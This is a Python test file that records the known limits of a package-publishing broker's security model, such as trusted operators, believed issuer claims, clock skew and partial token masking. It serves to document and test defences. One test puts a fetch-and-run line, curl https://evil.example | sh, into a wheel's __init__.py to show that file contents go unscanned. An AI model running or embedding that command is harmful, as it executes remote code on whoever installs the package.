"""Limits of the protection: what docs/security-model.md assumes and does not prevent.

These tests keep the page true: a change that closes a gap fails one of them, and must change the
page too.
"""

import sqlite3
from datetime import timedelta
from pathlib import Path

import pytest

from pytp_broker.redaction import printable
from pytp_broker.storage.sqlite import SqliteStore
from tests.support import distributions
from tests.support.configurations import github_publisher, registry
from tests.support.samples import operation
from tests.support.scanner import LEAKED
from tests.support.shelf import Shelf
from tests.support.signing import NOW
from tests.support.world import World

BY_NAME = registry("acme", github_publisher("widgets"), audience="acme")


@pytest.fixture
def shelf() -> Shelf:
    return Shelf()


@pytest.fixture
def world() -> World:
    return World(BY_NAME)


# --- what is assumed ------------------------------------------------------------------------------


@pytest.mark.promise("trusted-operator")
def test_whoever_may_write_the_store_may_let_anybody_publish(world: World) -> None:
    workflow = "evil/widgets/.github/workflows/release.yml@refs/tags/v1.2.0"
    stranger = {
        "repository": "evil/widgets",
        "repository_owner": "evil",
        "job_workflow_ref": workflow,
        "workflow_ref": workflow,
    }
    assert world.mint(world.token(**stranger)).status == 422

    world.configure(BY_NAME.replace("octo-org", "evil"))

    assert world.mint(world.token(**stranger)).status == 200


@pytest.mark.promise("honest-issuer")
@pytest.mark.promise("compromised-issuer")
@pytest.mark.parametrize("claim", ["run_id", "sha", "actor", "repository_visibility"])
def test_whatever_an_issuer_signs_is_believed(world: World, claim: str) -> None:
    assert world.mint(world.token(**{claim: "invented"})).status == 200


@pytest.mark.promise("protected-workflow")
@pytest.mark.parametrize("ref", ["refs/heads/main", "refs/heads/evil", "refs/tags/v0"])
def test_whoever_can_change_the_workflow_on_any_ref_may_publish(world: World, ref: str) -> None:
    workflow = f"octo-org/widgets/.github/workflows/release.yml@{ref}"

    answer = world.mint(world.token(ref=ref, job_workflow_ref=workflow, workflow_ref=workflow))

    assert answer.status == 200


@pytest.mark.promise("clocks")
@pytest.mark.parametrize(("seconds", "status"), [(-31, 422), (-30, 200), (329, 200), (330, 422)])
def test_clocks_may_be_half_a_minute_apart(world: World, seconds: int, status: int) -> None:
    """The token is good from now on for five minutes, by its issuer's clock."""
    token = world.issuer.token(NOW, nbf=int(NOW.timestamp()))
    world.now = NOW + timedelta(seconds=seconds)

    assert world.mint(token).status == status


# --- what is not prevented ------------------------------------------------------------------------


@pytest.mark.promise("malicious-release")
def test_what_a_file_does_is_not_looked_at() -> None:
    shelf = Shelf()
    members = distributions.wheel_members()
    members["widgets/__init__.py"] = "import os; os.system('curl https://evil.example | sh')"

    assert shelf.publish(distributions.wheel(members=members)).status == 200


@pytest.mark.promise("malicious-release")
def test_where_a_file_comes_from_is_kept_with_it() -> None:
    shelf = Shelf()
    shelf.publish(distributions.wheel())

    (file,) = shelf.store.list_files("acme", "widgets")
    assert file.published_by["repository"] == "octo-org/widgets"


@pytest.mark.promise("first-use")
def test_whoever_holds_a_name_at_its_first_use_is_pinned(world: World) -> None:
    taken_over = {"repository_owner_id": "666", "repository_id": "667"}

    assert world.mint(world.token(**taken_over)).status == 200
    assert world.mint(world.token()).code == "invalid-publisher"


@pytest.mark.promise("operators-records")
def test_whoever_may_write_the_store_may_change_what_operators_did(tmp_path: Path) -> None:
    store = SqliteStore(tmp_path / "broker.db")
    store.add_operator_record(operation(by="olive"), NOW)

    with sqlite3.connect(tmp_path / "broker.db") as connection:
        connection.execute("UPDATE operator_records SET document = replace(document, 'ol', 'cl')")

    (record,) = store.list_operator_records()
    store.close()
    assert record["by"] == "clive"


@pytest.mark.promise("public-registry")
@pytest.mark.parametrize("path", ["/acme/simple/", "/acme/simple/widgets/"])
def test_reading_a_public_registry_needs_no_token(path: str) -> None:
    shelf = Shelf()
    shelf.publish(distributions.wheel())

    assert shelf.get(path).status == 200


@pytest.mark.promise("unmasked-text")
def test_a_short_piece_of_a_token_is_shown_as_it_is() -> None:
    assert printable(LEAKED[-63:]) == LEAKED[-63:]
    assert printable(LEAKED[-64:]) == "[a token]"


@pytest.mark.promise("unmasked-text")
def test_a_secret_of_another_kind_is_shown_as_it_is(world: World) -> None:
    world.mint(world.token(actor="hunter2-is-my-password"))

    assert world.records[-1].document()["actor"] == "hunter2-is-my-password"


@pytest.mark.promise("open-release")
def test_a_further_wheel_is_added_to_an_open_release() -> None:
    shelf = Shelf()
    shelf.publish(distributions.wheel())
    preferred = distributions.wheel(filename="widgets-1.0-1-py3-none-any.whl")

    assert shelf.publish(preferred).status == 200
